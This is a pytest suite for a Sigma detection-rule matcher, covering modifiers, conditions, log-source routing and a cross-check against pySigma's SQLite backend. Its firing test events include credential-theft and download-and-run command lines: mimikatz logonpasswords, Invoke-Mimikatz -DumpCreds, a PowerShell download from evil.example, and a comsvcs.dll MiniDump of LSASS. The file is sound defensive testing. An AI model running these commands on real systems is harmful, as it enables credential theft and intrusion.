"""The in-process Sigma matcher: every modifier and condition form, each with a firing and a quiet event."""

from __future__ import annotations

import base64
import random
import re
import sqlite3
import textwrap
from pathlib import Path
from typing import Any

import pytest
from sigma.backends.sqlite import sqliteBackend
from sigma.rule import SigmaDetection, SigmaRule
from sigma.types import SigmaExpansion, SigmaNumber, SigmaString, SpecialChars

from detections.sigma.loader import load_rules
from detections.sigma.matcher import (
    CompiledRule,
    LogsourceKey,
    RuleSet,
    RuleSetError,
    UnsupportedRuleError,
    compile_rule,
)
from detections.sigma.pipelines import citysoc_pipeline
from store.errors import EventValidationError
from store.event import Event
from store.schema import lookup
from tests.helpers import SHARED_DATA, event


def rule(detection: str, logsource: str = "product: citysoc\n    service: camera", **meta: str) -> CompiledRule:
    """Compile a rule from its detection block (schema field names, no pipeline)."""
    header = "".join(f"{key}: {value}\n" for key, value in meta.items() if key != "title")
    text = f"""\
title: {meta.get("title", "test rule")}
{header}logsource:
    {logsource}
detection:
{textwrap.indent(textwrap.dedent(detection), "    ")}
"""
    return compile_rule(SigmaRule.from_yaml(text))


def windows_rule(detection: str, category: str = "process_creation") -> CompiledRule:
    """Compile a Windows rule written in Sigma field names, mapped by the CitySOC pipeline."""
    text = f"""\
title: windows test rule
logsource:
    product: windows
    category: {category}
detection:
{textwrap.indent(textwrap.dedent(detection), "    ")}
"""
    parsed = SigmaRule.from_yaml(text)
    citysoc_pipeline().apply(parsed)
    return compile_rule(parsed)


def ev(**fields: Any) -> Event:
    """An event from keyword arguments; ``__`` stands for ``.`` in field names."""
    return event(fields={name.replace("__", "."): value for name, value in fields.items()})


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


# ------------------------------------------------------------------ strings and wildcards


def test_plain_string_is_a_case_insensitive_full_match() -> None:
    r = rule("""\
        selection:
            user.name: Admin
        condition: selection
    """)
    assert r.match(ev(user__name="ADMIN"))
    assert not r.match(ev(user__name="admin2"))
    assert not r.match(ev(host__name="admin"))


def test_contains() -> None:
    r = rule("""\
        selection:
            process.command_line|contains: 'sekurlsa::'
        condition: selection
    """)
    assert r.match(ev(process__command_line="mimikatz.exe SEKURLSA::logonpasswords exit"))
    assert not r.match(ev(process__command_line="mimikatz.exe lsadump::sam"))


def test_startswith_and_endswith() -> None:
    r = rule("""\
        selection:
            process.executable|endswith: '\\cmd.exe'
            process.parent.executable|startswith: 'C:\\Windows\\'
        condition: selection
    """)
    assert r.match(ev(process__executable="C:\\Windows\\System32\\CMD.EXE",
                      process__parent__executable="c:\\windows\\explorer.exe"))
    assert not r.match(ev(process__executable="C:\\Windows\\System32\\cmd.exe.bak",
                          process__parent__executable="C:\\Windows\\explorer.exe"))
    assert not r.match(ev(process__executable="C:\\Windows\\System32\\cmd.exe",
                          process__parent__executable="D:\\Windows\\explorer.exe"))


def test_inner_wildcards_and_single_character_wildcard() -> None:
    r = rule("""\
        selection:
            process.command_line: '*\\cmd.exe /c *whoami?exe*'
        condition: selection
    """)
    assert r.match(ev(process__command_line="C:\\x\\cmd.exe /c echo && WHOAMI.exe /all"))
    assert not r.match(ev(process__command_line="C:\\x\\cmd.exe /c echo && whoami /all"))


def test_wildcard_spans_line_breaks() -> None:
    r = rule("""\
        selection:
            message: 'begin*end'
        condition: selection
    """)
    assert r.match(ev(message="begin\nmiddle\nend"))
    assert not r.match(ev(message="begin\nmiddle\nend."))


def test_escaped_wildcard_is_literal() -> None:
    r = rule("""\
        selection:
            url.path|endswith: '/admin\\*'
        condition: selection
    """)
    assert r.match(ev(url__path="/cgi/admin*"))
    assert not r.match(ev(url__path="/cgi/admin.php"))


def test_value_list_is_or_and_all_makes_it_and() -> None:
    any_of = rule("""\
        selection:
            process.command_line|contains:
                - ' -nop '
                - ' -enc '
        condition: selection
    """)
    all_of = rule("""\
        selection:
            process.command_line|contains|all:
                - ' -nop '
                - ' -enc '
        condition: selection
    """)
    both = ev(process__command_line="powershell -nop -enc SQBFAFgA")
    one = ev(process__command_line="powershell -enc SQBFAFgA")
    assert any_of.match(both) and any_of.match(one)
    assert all_of.match(both)
    assert not all_of.match(one)
    assert not any_of.match(ev(process__command_line="powershell -File x.ps1"))


def test_cased() -> None:
    r = rule("""\
        selection:
            user.name|cased: 'Administrator'
        condition: selection
    """)
    assert r.match(ev(user__name="Administrator"))
    assert not r.match(ev(user__name="administrator"))


def test_cased_contains() -> None:
    r = rule("""\
        selection:
            process.command_line|contains|cased: 'IEX'
        condition: selection
    """)
    assert r.match(ev(process__command_line="powershell IEX(New-Object Net.WebClient)"))
    assert not r.match(ev(process__command_line="powershell iex(New-Object Net.WebClient)"))


# ------------------------------------------------------------------ regular expressions


def test_re_is_an_unanchored_case_sensitive_search() -> None:
    r = rule("""\
        selection:
            process.command_line|re: '-e(nc|ncodedcommand) [A-Za-z0-9+/=]{20,}'
        condition: selection
    """)
    assert r.match(ev(process__command_line="powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0A"))
    assert not r.match(ev(process__command_line="powershell.exe -ENC SQBFAFgAIAAoAE4AZQB3AC0A"))
    assert not r.match(ev(process__command_line="powershell.exe -enc short"))


def test_re_ignorecase_flag() -> None:
    r = rule("""\
        selection:
            process.command_line|re|i: '-enc [a-z0-9+/=]{8,}'
        condition: selection
    """)
    assert r.match(ev(process__command_line="powershell.exe -ENC SQBFAFgAIAAo"))
    assert not r.match(ev(process__command_line="powershell.exe -ENC SQ"))


def test_re_multiline_flag() -> None:
    multiline = rule("""\
        selection:
            message|re|m: '^Accepted password'
        condition: selection
    """)
    plain = rule("""\
        selection:
            message|re: '^Accepted password'
        condition: selection
    """)
    text = "sshd[42]: session\nAccepted password for root"
    assert multiline.match(ev(message=text))
    assert not plain.match(ev(message=text))


def test_re_dotall_flag() -> None:
    dotall = rule("""\
        selection:
            message|re|s: 'BEGIN.+END'
        condition: selection
    """)
    plain = rule("""\
        selection:
            message|re: 'BEGIN.+END'
        condition: selection
    """)
    assert dotall.match(ev(message="BEGIN\nkey\nEND"))
    assert not plain.match(ev(message="BEGIN\nkey\nEND"))


# ------------------------------------------------------------------ encodings


def test_base64() -> None:
    r = rule("""\
        selection:
            process.command_line|base64|contains: 'whoami /all'
        condition: selection
    """)
    assert r.match(ev(process__command_line="cmd /c echo " + b64(b"whoami /all") + " | decode"))
    assert not r.match(ev(process__command_line="cmd /c echo " + b64(b"whoami /priv")))


@pytest.mark.parametrize("prefix", [b"", b"x", b"xy"])
def test_base64offset_finds_the_text_at_every_offset(prefix: bytes) -> None:
    r = rule("""\
        selection:
            process.command_line|base64offset|contains: 'http://evil.example'
        condition: selection
    """)
    assert r.match(ev(process__command_line="powershell -e " + b64(prefix + b"IWR http://evil.example/a.ps1")))
    assert not r.match(ev(process__command_line="powershell -e " + b64(prefix + b"IWR https://good.example/a")))


def test_wide_base64offset_matches_utf16_powershell_payloads() -> None:
    r = rule("""\
        selection:
            process.command_line|wide|base64offset|contains: 'Invoke-Mimikatz'
        condition: selection
    """)
    payload = b64("IEX (Invoke-Mimikatz -DumpCreds)".encode("utf-16le"))
    assert r.match(ev(process__command_line=f"powershell.exe -EncodedCommand {payload}"))
    ascii_payload = b64(b"IEX (Invoke-Mimikatz -DumpCreds)")  # the same text, not UTF-16
    assert not r.match(ev(process__command_line=f"powershell.exe -EncodedCommand {ascii_payload}"))


def test_wide_matches_utf16le_text() -> None:
    r = rule("""\
        selection:
            message|wide|contains: 'cmd'
        condition: selection
    """)
    assert r.match(ev(message="x" + "cmd".encode("utf-16le").decode("ascii") + "y"))
    assert not r.match(ev(message="cmd"))


def test_windash_accepts_every_dash_form() -> None:
    r = rule("""\
        selection:
            process.command_line|windash|contains: ' -accepteula '
        condition: selection
    """)
    for dash in ("-", "/", "\u2013", "\u2014", "\u2015"):
        assert r.match(ev(process__command_line=f"psexec.exe {dash}accepteula \\\\host cmd")), dash
    assert not r.match(ev(process__command_line="psexec.exe accepteula \\\\host cmd"))


def test_windash_with_all_keeps_each_expansion_or_linked() -> None:
    r = rule("""\
        selection:
            process.command_line|windash|contains|all:
                - ' -s '
                - ' -i '
        condition: selection
    """)
    assert r.match(ev(process__command_line="psexec.exe /s -i cmd"))
    assert not r.match(ev(process__command_line="psexec.exe /s cmd"))


# ------------------------------------------------------------------ network, numbers, presence


def test_cidr_ipv4_and_ipv6() -> None:
    r = rule("""\
        selection:
            source.ip|cidr:
                - 10.30.9.0/24
                - 'fd00:30:9::/48'
        condition: selection
    """)
    assert r.match(ev(source__ip="10.30.9.77"))
    assert r.match(ev(source__ip="fd00:30:9::15"))
    assert not r.match(ev(source__ip="10.30.10.1"))
    assert not r.match(ev(source__ip="fd00:30:a::15"))


def test_cidr_on_array_field_matches_any_element() -> None:
    r = rule("""\
        selection:
            related.ip|cidr: 192.168.0.0/16
        condition: selection
    """)
    assert r.match(ev(related__ip=["8.8.8.8", "192.168.4.20"]))
    assert not r.match(ev(related__ip=["8.8.8.8", "1.1.1.1"]))


@pytest.mark.parametrize(
    ("modifier", "bound", "matching", "quiet"),
    [("gt", 1024, 1025, 1024), ("gte", 1024, 1024, 1023), ("lt", 1024, 1023, 1024), ("lte", 1024, 1024, 1025)],
)
def test_numeric_comparisons(modifier: str, bound: int, matching: int, quiet: int) -> None:
    r = rule(f"""\
        selection:
            destination.port|{modifier}: {bound}
        condition: selection
    """)
    assert r.match(ev(destination__port=matching))
    assert not r.match(ev(destination__port=quiet))


def test_comparison_reads_numeric_strings_and_ignores_text() -> None:
    r = rule("""\
        selection:
            winlog.event_data.LogonType|gte: 10
        condition: selection
    """)
    assert r.match(ev(winlog__event_data__LogonType="10"))
    assert not r.match(ev(winlog__event_data__LogonType="Network"))


def test_number_matches_keyword_field_holding_the_digits() -> None:
    r = rule("""\
        selection:
            winlog.event_id: 4625
        condition: selection
    """)
    assert r.match(ev(winlog__event_id="4625"))
    assert not r.match(ev(winlog__event_id="4624"))


def test_boolean_value() -> None:
    r = rule("""\
        selection:
            ot.request: true
        condition: selection
    """)
    assert r.match(ev(ot__request=True))
    assert not r.match(ev(ot__request=False))


def test_null_means_absent() -> None:
    r = rule("""\
        selection:
            event.action: login
            user.name: null
        condition: selection
    """)
    assert r.match(ev(event__action="login"))
    assert not r.match(ev(event__action="login", user__name="operator7"))


def test_exists() -> None:
    present = rule("""\
        selection:
            iot.device.firmware|exists: true
        condition: selection
    """)
    absent = rule("""\
        selection:
            iot.device.firmware|exists: false
        condition: selection
    """)
    with_fw = ev(iot__device__firmware="5.7.3")
    without = ev(iot__device__id="cam-17")
    assert present.match(with_fw) and not present.match(without)
    assert absent.match(without) and not absent.match(with_fw)


def test_fieldref_compares_two_fields() -> None:
    equal = rule("""\
        selection:
            process.parent.executable|fieldref: process.executable
        condition: selection
    """)
    assert equal.match(ev(process__executable="C:\\a\\x.exe", process__parent__executable="c:\\A\\X.EXE"))
    assert not equal.match(ev(process__executable="C:\\a\\x.exe", process__parent__executable="C:\\a\\y.exe"))
    assert not equal.match(ev(process__executable="C:\\a\\x.exe"))


def test_fieldref_with_endswith() -> None:
    r = rule("""\
        selection:
            process.executable|fieldref|endswith: process.name
        condition: selection
    """)
    assert r.match(ev(process__executable="C:\\Tools\\nc.exe", process__name="nc.exe"))
    assert not r.match(ev(process__executable="C:\\Tools\\svchost.exe", process__name="nc.exe"))


def test_timestamp_part() -> None:
    eight_o_clock = rule("""\
        selection:
            '@timestamp|hour': 8
        condition: selection
    """)
    assert eight_o_clock.match(ev())  # tests.helpers.T0 is 08:00 UTC
    assert not eight_o_clock.match(event(seconds=3600))


# ------------------------------------------------------------------ keywords and conditions


def test_keywords_search_message_and_original() -> None:
    r = rule("""\
        keywords:
            - 'Failed password for invalid user'
            - 'authentication failure'
        condition: keywords
    """)
    assert r.match(ev(message="sshd[812]: Failed password for invalid user pi from 203.0.113.9"))
    assert r.match(ev(event__original="<38>pam_unix(sshd:auth): AUTHENTICATION FAILURE; rhost=203.0.113.9"))
    assert not r.match(ev(message="sshd[812]: Accepted publickey for ops"))


def test_keywords_with_wildcards() -> None:
    r = rule("""\
        keywords:
            - 'session opened for user root*by'
        condition: keywords
    """)
    assert r.match(ev(message="pam: session opened for user root(uid=0) by (uid=0)"))
    assert not r.match(ev(message="pam: session opened for user ops(uid=1000) by (uid=0)"))


def test_one_of_selection_pattern() -> None:
    r = rule("""\
        selection_web:
            url.path|contains: '/cgi-bin/'
        selection_shell:
            process.command_line|contains: '/bin/sh'
        other:
            user.name: root
        condition: 1 of selection_*
    """)
    assert r.match(ev(url__path="/cgi-bin/luci"))
    assert r.match(ev(process__command_line="/bin/sh -c id"))
    assert not r.match(ev(user__name="root"))


def test_all_of_them() -> None:
    r = rule("""\
        login:
            event.action: login
        failed:
            event.outcome: failure
        condition: all of them
    """)
    assert r.match(ev(event__action="login", event__outcome="failure"))
    assert not r.match(ev(event__action="login", event__outcome="success"))


def test_not_filter() -> None:
    r = rule("""\
        selection:
            ot.protocol: modbus
            ot.function|startswith: write_
        filter_engineering:
            source.ip|cidr: 10.30.9.0/24
        condition: selection and not filter_engineering
    """)
    write = {"ot__protocol": "modbus", "ot__function": "write_single_register"}
    assert r.match(ev(source__ip="10.20.1.5", **write))
    assert not r.match(ev(source__ip="10.30.9.12", **write))
    assert not r.match(ev(source__ip="10.20.1.5", ot__protocol="modbus", ot__function="read_holding_registers"))


def test_not_of_absent_field_is_true() -> None:
    r = rule("""\
        selection:
            event.action: login
        filter:
            user.name: service
        condition: selection and not filter
    """)
    assert r.match(ev(event__action="login"))
    assert not r.match(ev(event__action="login", user__name="SERVICE"))


def test_list_of_maps_is_or_of_ands() -> None:
    r = rule("""\
        selection:
            - event.action: login
              event.outcome: failure
            - event.action: firmware_update
        condition: selection
    """)
    assert r.match(ev(event__action="login", event__outcome="failure"))
    assert r.match(ev(event__action="firmware_update"))
    assert not r.match(ev(event__action="login", event__outcome="success"))


def test_several_conditions_are_alternatives() -> None:
    r = rule("""\
        a:
            event.action: reboot
        b:
            event.action: factory_reset
        condition:
            - a
            - b
    """)
    assert r.match(ev(event__action="reboot"))
    assert r.match(ev(event__action="factory_reset"))
    assert not r.match(ev(event__action="login"))


def test_array_field_matches_any_element() -> None:
    r = rule("""\
        selection:
            event.category: authentication
        condition: selection
    """)
    assert r.match(ev(event__category=["iot", "authentication"]))
    assert not r.match(ev(event__category=["iot", "network"]))


# ------------------------------------------------------------------ pipeline and metadata


def test_windows_rule_through_the_pipeline() -> None:
    r = windows_rule("""\
        selection:
            EventID: 1
            Image|endswith: '\\rundll32.exe'
            OriginalFileName: RUNDLL32.EXE
            CommandLine|contains: 'comsvcs'
        condition: selection
    """)
    assert r.fields_used == (
        "process.command_line", "process.executable", "winlog.event_data.OriginalFileName", "winlog.event_id",
    )
    sysmon = {
        "winlog__event_id": "1",
        "process__executable": "C:\\Windows\\System32\\rundll32.exe",
        "winlog__event_data__OriginalFileName": "RUNDLL32.EXE",
    }
    assert r.match(ev(process__command_line="rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624", **sysmon))
    assert not r.match(ev(process__command_line="rundll32.exe shell32.dll,Control_RunDLL", **sysmon))


def test_metadata() -> None:
    r = rule(
        """\
        selection:
            event.action: firmware_update
        condition: selection
    """,
        id="3c7e9d21-6a4f-4f1b-8e2d-9b0a5c6d7e04",
        name="camera_firmware_change",
        level="high",
        tags="\n    - attack.persistence\n    - attack.t1542.001",
    )
    assert r.rule_id == "3c7e9d21-6a4f-4f1b-8e2d-9b0a5c6d7e04"
    assert r.name == "camera_firmware_change"
    assert r.level == "high"
    assert r.tags == ("attack.persistence", "attack.t1542.001")
    assert r.logsource == LogsourceKey("citysoc", None, "camera")
    assert r.fields_used == ("event.action",)


def test_expand_placeholder_is_unsupported_with_its_name() -> None:
    with pytest.raises(UnsupportedRuleError, match="%domain_controllers%"):
        rule("""\
            selection:
                host.name|expand: '%domain_controllers%'
            condition: selection
        """)


# ------------------------------------------------------------------ routing


def test_ruleset_routes_events_by_logsource() -> None:
    camera = rule("""\
        selection:
            event.action: login
        condition: selection
    """, id="5d0b7c0e-3f8e-4d53-9a1e-0c1f7b2a9e01")
    modbus = rule("""\
        selection:
            event.action: login
        condition: selection
    """, logsource="product: zeek\n    service: modbus", id="9e4d2b10-7c3a-4e5f-a1b2-c3d4e5f60705")
    rules = RuleSet([camera, modbus])
    from_camera = ev(event__dataset="camera.platform", event__action="login")
    from_zeek = ev(event__dataset="zeek.modbus", event__action="login")
    assert rules.logsources(from_camera) == {LogsourceKey("citysoc", None, "camera")}
    assert rules.match(from_camera) == [camera]
    assert rules.match(from_zeek) == [modbus]
    assert rules.match(ev(event__dataset="zeek.conn", event__action="login")) == []


def test_ruleset_windows_categories_and_product_rules() -> None:
    process = windows_rule("""\
        selection:
            Image|endswith: '\\whoami.exe'
        condition: selection
    """)
    network = windows_rule("""\
        selection:
            Image|endswith: '\\whoami.exe'
        condition: selection
    """, category="network_connection")
    product_wide = rule("""\
        selection:
            process.executable|endswith: '\\whoami.exe'
        condition: selection
    """, logsource="product: windows", id="0f6f3a43-4f0e-4c70-8d0b-6a5a2c0d1b02")
    # windows_rule gives no id: the title is the id, so make them distinct rule sets
    first = RuleSet([process, product_wide])
    second = RuleSet([network])
    exe = "C:\\Windows\\System32\\whoami.exe"
    sysmon_1 = ev(event__dataset="windows.sysmon", winlog__event_id="1", process__executable=exe)
    security_4688 = ev(winlog__channel="Security", winlog__event_id="4688", process__executable=exe)
    sysmon_3 = ev(winlog__channel="Microsoft-Windows-Sysmon/Operational", winlog__event_id="3",
                  process__executable=exe)
    assert first.match(sysmon_1) == [process, product_wide]
    assert first.match(security_4688) == [process, product_wide]
    assert first.match(sysmon_3) == [product_wide]
    assert second.match(sysmon_3) == [network]
    assert second.match(sysmon_1) == []


def test_ruleset_sshd_from_syslog_program_name() -> None:
    sshd = rule("""\
        keywords:
            - 'invalid user'
        condition: keywords
    """, logsource="product: linux\n    service: sshd")
    rules = RuleSet([sshd])
    line = "Failed password for invalid user admin from 203.0.113.9 port 50022 ssh2"
    assert rules.match(ev(event__dataset="syslog", log__syslog__appname="sshd", message=line)) == [sshd]
    assert rules.match(ev(event__dataset="syslog", log__syslog__appname="cron", message=line)) == []


def test_ruleset_rejects_duplicate_ids() -> None:
    one = rule("""\
        selection:
            event.action: a
        condition: selection
    """, id="8a2c1e55-2b9d-4a8e-bf0e-1d9c3e7f4a03")
    two = rule("""\
        selection:
            event.action: b
        condition: selection
    """, id="8a2c1e55-2b9d-4a8e-bf0e-1d9c3e7f4a03", title="another rule")
    with pytest.raises(RuleSetError, match="8a2c1e55-2b9d-4a8e-bf0e-1d9c3e7f4a03"):
        RuleSet([one, two])


def test_unroutable_rule_is_reported() -> None:
    aws = rule("""\
        selection:
            event.action: ConsoleLogin
        condition: selection
    """, logsource="product: aws\n    service: cloudtrail")
    rules = RuleSet([aws])
    assert not rules.routable(aws)
    assert rules.match(ev(event__dataset="aws.cloudtrail", event__action="ConsoleLogin")) == []


# ------------------------------------------------------------------ against pySigma's SQLite backend


def _witnesses(detection: SigmaDetection) -> list[tuple[str, str]]:
    """(field, text) pairs that each satisfy one string leaf: wildcards filled with sample text."""
    found: list[tuple[str, str]] = []
    for item in detection.detection_items:
        if isinstance(item, SigmaDetection):
            found.extend(_witnesses(item))
            continue
        values = [v for value in item.value for v in (value.values if isinstance(value, SigmaExpansion) else [value])]
        for value in values:
            if item.field is None or lookup(item.field) is None:
                continue
            if isinstance(value, SigmaString):
                text = "".join(
                    p if isinstance(p, str) else "ab" if p is SpecialChars.WILDCARD_MULTI else "z" for p in value.s
                )
                found.append((item.field, text))
            elif isinstance(value, SigmaNumber):
                found.append((item.field, str(value.number)))
    return found


def test_agrees_with_the_pysigma_sqlite_backend_on_sigmahq_process_creation() -> None:
    """Same rules, same events: our matches must equal the rows the SQLite backend's queries select."""
    folder = SHARED_DATA / "sigma" / "rules" / "windows" / "process_creation"
    if not folder.is_dir():
        pytest.skip(f"../shared/data/sigma absent: {folder} is not checked out")
    loaded = [e for e in load_rules(folder).loaded if e.compiled is not None and isinstance(e.rule, SigmaRule)]
    backend = sqliteBackend(citysoc_pipeline())
    queries = [backend.convert_rule(SigmaRule.from_yaml(Path(e.location.path).read_text(encoding="utf-8")))
               for e in loaded]
    witnesses = [
        w for w in ([p for d in e.rule.detection.detections.values() for p in _witnesses(d)]
                    for e in loaded if isinstance(e.rule, SigmaRule)) if w
    ]
    columns = {name.lower(): name for pairs in witnesses for name, _ in pairs} | {"message": "message"}

    rng = random.Random(20261121)
    events: list[Event] = []
    while len(events) < 1500:
        body: dict[str, str] = {}
        for pairs in rng.sample(witnesses, rng.randint(1, 3)):
            for name, text in rng.sample(pairs, min(len(pairs), rng.randint(1, 6))):
                if text.isascii() and rng.random() < 0.3:
                    text = text.upper()  # SQLite folds case for ASCII only
                body[name] = f"pre {text} post" if rng.random() < 0.2 else text
        try:
            events.append(event(len(events), body, event_id=f"e{len(events)}"))
        except EventValidationError:
            continue  # a witness text that is not a valid value for its schema type

    db = sqlite3.connect(":memory:")
    db.create_function("REGEXP", 2, lambda pattern, value: value is not None and re.search(pattern, value) is not None)
    names = list(columns.values())  # schema field names from the rules, quoted: not user input
    db.execute("CREATE TABLE logs (eid TEXT, " + ", ".join(f'"{c}" TEXT COLLATE NOCASE' for c in names) + ")")
    insert = "INSERT INTO logs VALUES (" + ", ".join("?" * (len(names) + 1)) + ")"  # noqa: S608 -- "?" only
    for e in events:
        row = {k.lower(): str(v) for k, v in e.fields.items()}
        db.execute(insert, [e.id, *(row.get(c.lower()) for c in names)])

    hits = 0
    disagreements = []
    for entry, rule_queries in zip(loaded, queries, strict=True):
        assert entry.compiled is not None
        theirs = {row[0] for q in rule_queries for row in db.execute(q.replace("SELECT *", "SELECT eid", 1))}
        ours = {e.id for e in events if entry.compiled.match(e)}
        hits += len(ours)
        if ours != theirs:
            disagreements.append((entry.title, sorted(ours - theirs)[:3], sorted(theirs - ours)[:3]))
    db.close()
    assert disagreements == []
    assert hits > 1000  # the events do exercise the rules
